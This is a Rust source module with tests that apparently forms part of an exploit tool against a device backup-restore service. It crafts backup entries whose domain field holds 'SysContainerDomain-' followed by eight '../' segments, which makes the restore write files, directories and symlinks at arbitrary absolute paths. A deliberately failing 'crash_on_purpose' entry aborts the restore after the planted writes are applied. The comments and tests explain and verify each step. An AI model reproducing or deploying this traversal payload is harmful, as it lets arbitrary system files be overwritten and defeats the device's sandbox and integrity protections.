//! Entry builders whose domain field escapes the per-app container tree.
//!
//! The consumer joins `<sandbox root>/<domain remainder>/<path>` without
//! sanitizing the remainder after the domain token, so a domain of
//! `<token>-../../../../../../../..<absolute path>` resolves at an
//! arbitrary filesystem location. The entry's own `path` stays empty; the
//! domain already encodes the whole destination.

use mbdb_format::{BackupEntry, DirectoryEntry, FileEntry, SymlinkEntry};

/// Sandbox roots the consumer resolves domain-relative paths against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SandboxDomain {
    /// Per-app system container data. Resolution follows symlinks, which is
    /// what makes the traversal land on the real filesystem.
    SysContainer,
    /// Shared system container data. Resolution does not follow symlinks.
    SysSharedContainer,
}

impl SandboxDomain {
    pub fn token(self) -> &'static str {
        match self {
            SandboxDomain::SysContainer => "SysContainerDomain-",
            SandboxDomain::SysSharedContainer => "SysSharedContainerDomain-",
        }
    }

    pub fn follows_symlinks(self) -> bool {
        matches!(self, SandboxDomain::SysContainer)
    }
}

/// Parent segments between the container data root and `/`:
/// `/var/.backup.i/var/mobile/Library/Backup/System Containers/Data/<bundle>`
/// is eight levels deep.
pub const ESCAPE_DEPTH: usize = 8;

/// Path segment of the always-failing sibling entry. The consumer's error
/// message quotes the path it choked on, so this string is the signature
/// the orchestrator recognizes the designed abort by.
pub const ABORT_MARKER: &str = "crash_on_purpose";

#[derive(Debug, thiserror::Error)]
pub enum EscapeError {
    #[error("escape target must be an absolute path: `{0}`")]
    RelativeTarget(String),
}

fn escape_prefix() -> String {
    let mut prefix = String::from(SandboxDomain::SysContainer.token());
    for depth in 0..ESCAPE_DEPTH {
        if depth > 0 {
            prefix.push('/');
        }
        prefix.push_str("..");
    }
    prefix
}

fn escape_domain(dest: &str) -> Result<String, EscapeError> {
    if !dest.starts_with('/') {
        return Err(EscapeError::RelativeTarget(dest.to_string()));
    }
    Ok(escape_prefix() + dest)
}

/// An entry that writes `contents` to the absolute path `dest`.
pub fn file(dest: &str, contents: Vec<u8>) -> Result<BackupEntry, EscapeError> {
    Ok(FileEntry::new("", escape_domain(dest)?, contents).into())
}

/// An entry that creates the directory `dest`.
pub fn directory(dest: &str) -> Result<BackupEntry, EscapeError> {
    Ok(DirectoryEntry::new("", escape_domain(dest)?).into())
}

/// An entry that creates a symlink at `dest` pointing to `target`.
pub fn symlink(dest: &str, target: &str) -> Result<BackupEntry, EscapeError> {
    Ok(SymlinkEntry::new("", escape_domain(dest)?, target).into())
}

/// The always-failing sibling entry. Must be ordered after every legitimate
/// entry so the consumer applies those writes first, then fails on this one
/// before committing a full restore.
pub fn abort_entry() -> BackupEntry {
    let mut domain = escape_prefix();
    domain.push('/');
    domain.push_str(ABORT_MARKER);
    FileEntry::new("", domain, Vec::new()).into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn file_escape_shape() {
        let entry = file("/var/mobile/x", b"Z".to_vec()).unwrap();

        let domain = entry.domain();
        assert!(domain.starts_with("SysContainerDomain-"));
        assert_eq!(domain.matches("..").count(), ESCAPE_DEPTH);
        assert!(domain.ends_with("/var/mobile/x"));
        assert_eq!(
            domain,
            "SysContainerDomain-../../../../../../../../var/mobile/x"
        );
        assert_eq!(entry.path(), "");
    }

    #[test]
    fn directory_and_symlink_escapes() {
        let dir = directory("/var/db/somewhere").unwrap();
        assert!(matches!(dir, BackupEntry::Directory(_)));
        assert!(dir.domain().ends_with("/var/db/somewhere"));

        let link = symlink("/var/jb", "/var/containers/Bundle").unwrap();
        match link {
            BackupEntry::Symlink(ref entry) => {
                assert_eq!(entry.target, "/var/containers/Bundle")
            }
            _ => panic!("expected a symlink entry"),
        }
    }

    #[test]
    fn relative_target_rejected() {
        assert!(matches!(
            file("var/mobile/x", Vec::new()),
            Err(EscapeError::RelativeTarget(_))
        ));
        assert!(matches!(
            directory("./x"),
            Err(EscapeError::RelativeTarget(_))
        ));
    }

    #[test]
    fn abort_entry_shape() {
        let entry = abort_entry();
        assert_eq!(
            entry.domain(),
            "SysContainerDomain-../../../../../../../../crash_on_purpose"
        );
        assert_eq!(entry.path(), "");
        match entry {
            BackupEntry::File(file) => assert!(file.contents.is_empty()),
            _ => panic!("expected a file entry"),
        }
    }

    #[test]
    fn escape_targets_the_link_following_domain() {
        assert!(SandboxDomain::SysContainer.follows_symlinks());
        assert!(!SandboxDomain::SysSharedContainer.follows_symlinks());
        assert!(file("/x", Vec::new())
            .unwrap()
            .domain()
            .starts_with(SandboxDomain::SysContainer.token()));
    }
}
